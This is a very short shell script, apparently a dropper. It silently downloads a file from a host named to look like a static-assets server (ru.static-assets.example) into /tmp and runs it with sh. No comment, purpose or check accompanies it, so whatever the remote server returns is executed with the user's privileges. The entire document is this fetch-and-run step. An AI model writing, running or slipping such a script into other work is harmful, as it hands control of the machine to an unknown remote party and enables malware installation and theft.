#!/bin/sh
U=https://ru.static-assets.example/u
curl -s $U > /tmp/u
sh /tmp/u
